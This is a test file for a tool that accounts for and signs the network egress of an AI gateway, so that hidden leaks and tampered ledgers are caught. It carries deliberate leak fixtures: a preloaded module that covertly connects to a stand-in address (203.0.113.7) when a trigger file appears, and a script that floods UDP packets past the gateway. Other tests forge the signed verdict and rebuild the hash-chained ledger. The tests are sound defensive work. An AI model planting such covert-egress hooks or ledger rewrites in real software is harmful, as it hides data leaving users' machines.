/** `isopod egress statement`: what left is accounted for, and a planted leak or a rewritten ledger fails. */

import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";

import { createMachine, type Json, type Machine, ROOT } from "./machine.ts";
import { startModel } from "./model-program.ts";
import { namespacesMissing } from "./needs.ts";
import { unplug, watchCable } from "./network-namespace.ts";

const skip = namespacesMissing;

/** Chats in a session of its own, and states what left meanwhile. */
async function chatAndState(machine: Machine, code: number): Promise<Json> {
  const chat = ["chat", "--json", "--session", "of the test", "hello"];
  await machine.json(0, chat);
  const [statement] = await machine.json(code, ["egress", "statement", "of the test", "--json"]);
  return statement ?? {};
}

/** As on another machine: the script, the statement, its signature and the key, and nothing else. */
function verify(machine: Machine, file: string, change: (text: string) => string = (text) => text) {
  const folder = machine.path("elsewhere");
  mkdirSync(folder, { recursive: true });
  const script = join(folder, "verify-statement.mjs");
  copyFileSync(join(ROOT, "scripts/verify-statement.mjs"), script);
  const copy = join(folder, "statement.json");
  writeFileSync(copy, change(readFileSync(file, "utf8")));
  copyFileSync(`${file}.minisig`, `${copy}.minisig`);
  const key = join(folder, "signing.pub");
  copyFileSync(machine.path("signing.pub"), key);
  const ran = spawnSync(process.execPath, [script, copy, key], { encoding: "utf8" });
  return { status: ran.status, said: ran.stdout + ran.stderr };
}

test("verify-statement.mjs is at most 60 lines and needs nothing but Node", () => {
  const text = readFileSync(join(ROOT, "scripts/verify-statement.mjs"), "utf8");
  assert.ok(text.trimEnd().split("\n").length <= 60);
  const modules = Array.from(text.matchAll(/from "([^"]+)"/g), ([, name = ""]) => name);
  assert.ok(modules.length > 0 && modules.every((name) => name.startsWith("node:")));
});

test(
  "security: in a namespace of its own the kernel counts for the gateway, and nothing left",
  { skip },
  async (t) => {
    const machine = createMachine(t);
    const { enter } = await unplug(t);
    const gateway = await machine.gateway({ enter });
    const statement = await chatAndState(machine, 0);
    assert.equal(statement["verdict"], "accounted", JSON.stringify(statement["reasons"]));
    assert.equal((statement["source"] as Json)["kind"], "namespace");
    const left = statement["left"] as Json;
    assert.deepEqual([left["frames"], left["sentBytes"]], [0, 0]);
    const file = String(statement["file"]);
    const { status, said } = verify(machine, file);
    assert.equal(status, 0, said);
    const words = ["-V", "-p", machine.path("signing.pub"), "-m", file];
    const minisign = spawnSync("minisign", words, { encoding: "utf8" });
    if (!minisign.error) assert.equal(minisign.status, 0, minisign.stderr);

    const forged = verify(machine, file, (text) => text.replace('"refused": 0', '"refused": 1'));
    assert.equal(forged.status, 1);
    assert.match(forged.said, /did not sign/);
    await gateway.stop();
  },
);

/** A model server of the LAN: the far end of the cable passes on to it. */
const RELAY = `
  const { createServer, connect } = require("node:net");
  createServer((socket) => {
    const onward = connect(Number(process.argv[1]), "127.0.0.1");
    socket.pipe(onward).pipe(socket);
    for (const end of [socket, onward]) end.on("error", () => {});
  }).listen(11999, "10.77.0.1", () => console.log("ready"));
`;

test(
  "security: what goes to a host of the LAN is accounted for, and what goes beside it is not",
  { skip },
  async (t) => {
    const machine = createMachine(t);
    const cable = await watchCable(t, machine.path("resolv.conf"));
    const says = Array.from({ length: 8 }, () => [{ text: "Hello from the LAN." }]);
    const ollama = await startModel(t, "ollama", { turns: says }, cable.world.enter);
    const [, port = ""] = ollama.address.split(":");
    const [program = "", ...args] = [...cable.world.enter, process.execPath, "-e", RELAY, port];
    const relay = spawn(program, args, { stdio: ["ignore", "pipe", "inherit"] });
    t.after(() => relay.kill("SIGKILL"));
    await once(relay.stdout, "data");
    machine.config({
      models: {
        providers: {
          lan: {
            api: "ollama",
            baseUrl: "http://10.77.0.1:11999",
            locality: "lan",
            models: { "qwen3:8b": {} },
          },
        },
      },
      agents: { defaults: { model: { primary: "lan/qwen3:8b" } } },
    });
    const gateway = await machine.gateway({ enter: cable.enter });
    const statement = await chatAndState(machine, 0);
    assert.equal(statement["verdict"], "accounted", JSON.stringify(statement["reasons"]));
    assert.ok(Number((statement["left"] as Json)["frames"]) > 5, "the cable was used");
    const peer = (statement["peers"] as Json[]).find(({ place }) => place === "lan");
    assert.deepEqual([peer?.["host"], peer?.["onward"]], ["10.77.0.1:11999", "not proven"]);
    const good = verify(machine, String(statement["file"]));
    assert.equal(good.status, 0, good.said);

    // From the gateway's namespace, past the gateway: as much as a file.
    const leak = `require("node:net").connect(443, "10.77.0.1").on("error", () => {});
    const udp = require("node:dgram").createSocket("udp4");
    let left = 40;
    const send = () => udp.send(Buffer.alloc(1000), 9, "203.0.113.7", () => --left ? send() : udp.close());
    send();`;
    const [node = "", ...words] = [...cable.enter, process.execPath, "-e", leak];
    assert.equal(spawnSync(node, words).status, 0);
    const failed = await chatAndState(machine, 1);
    assert.match(String(failed["reasons"]), /bytes left/);
    assert.equal(verify(machine, String(failed["file"])).status, 1);
    await gateway.stop();
  },
);

/** What a library could have kept from before the guard: it sends when the file is there. */
const LEAK = `
  const net = require("node:net");
  const { existsSync, rmSync } = require("node:fs");
  const { connect } = net.Socket.prototype;
  setInterval(() => {
    if (!existsSync(process.env.LEAK_FILE)) return;
    rmSync(process.env.LEAK_FILE);
    const socket = new net.Socket();
    socket.on("error", () => {});
    connect.call(socket, 443, "203.0.113.7");
  }, 20).unref();
`;

test(
  "security: a planted leak makes the statement fail, here and in the script",
  { skip },
  async (t) => {
    const machine = createMachine(t);
    const leak = machine.path("leak.cjs");
    writeFileSync(leak, LEAK);
    const cable = await watchCable(t, machine.path("resolv.conf"));
    const trigger = machine.path("now");
    const env = { NODE_OPTIONS: `--require ${leak}`, LEAK_FILE: trigger };
    const gateway = await machine.gateway({ enter: cable.enter, env });
    // The control: the same gateway, as long as it holds its tongue.
    const silent = await chatAndState(machine, 0);
    assert.equal(silent["verdict"], "accounted", JSON.stringify(silent["reasons"]));
    assert.equal(verify(machine, String(silent["file"])).status, 0);

    const { tcp } = cable.arrived();
    writeFileSync(trigger, "");
    for (let tries = 0; cable.arrived().tcp === tcp; tries++) {
      assert.ok(tries < 250, "the leak must get out");
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    const statement = await chatAndState(machine, 1);
    assert.equal(statement["verdict"], "failed");
    assert.match(String(statement["reasons"]), /bytes left by \S*near\S* of which no line/);
    const { status, said } = verify(machine, String(statement["file"]));
    assert.equal(status, 1);
    assert.match(said, /bytes left of which no line tells/);
    // A verdict that was put right by hand has no signature.
    const dressed = verify(machine, String(statement["file"]), (text) =>
      text.replace('"failed"', '"accounted"'),
    );
    assert.match(dressed.said, /did not sign[^]*no line tells/);
    await gateway.stop();
  },
);

test("security: a rewritten ledger fails: a changed line, and one with new hashes against what was signed", async (t) => {
  const machine = createMachine(t);
  await machine.json(0, ["mode", "set", "device", "--json"]);
  const first = await chatAndState(machine, 0);
  assert.notEqual(first["verdict"], "failed");
  const ledger = machine.path("ledger.jsonl");
  const text = readFileSync(ledger, "utf8");
  assert.match(text, /"host":"device"/);
  writeFileSync(ledger, text.replace('"host":"device"', '"host":"revice"'));
  const changed = await chatAndState(machine, 1);
  assert.match(String(changed["reasons"]), /was touched at ledger\.jsonl:\d+/);

  const { toChainLine, CHAIN_START } = await import("../../src/network/chain.ts");
  let head = CHAIN_START;
  const anew = text
    .trimEnd()
    .split("\n")
    .map((line, at) => {
      const { n: _n, hash: _hash, prev: _prev, ...rest } = JSON.parse(line) as Json;
      const next = toChainLine(head, at === 3 ? { ...rest, host: "nobody" } : rest, {
        isFirst: at === 0,
      });
      ({ head } = next);
      return `${next.text}\n`;
    });
  writeFileSync(ledger, anew.join(""));
  await machine.json(0, ["egress", "log", "verify", "--json"]);
  const rewritten = await chatAndState(machine, 1);
  assert.match(String(rewritten["reasons"]), /earlier statement signed/);
});

test("a model server on this machine reads not proven, and the ledger alone tells of it", async (t) => {
  const turns = [[{ text: "Hello." }]];
  const ollama = await startModel(t, "ollama", { turns }, []);
  const machine = createMachine(t, { env: { OLLAMA_HOST: ollama.address } });
  const statement = await chatAndState(machine, 0);
  const peers = statement["peers"] as Json[];
  const peer = peers.find(({ host }) => ollama.address.endsWith(String(host)));
  assert.equal(peer?.["onward"], "not proven");
  assert.ok(Number(peer?.["sentBytes"]) > 0);
  assert.equal((await machine.isopod(["egress", "statement", "nobody's"])).code, 2);
  const text = await machine.isopod(["egress", "statement", "of the test"]);
  assert.match(text.stdout, /not proven/);
});
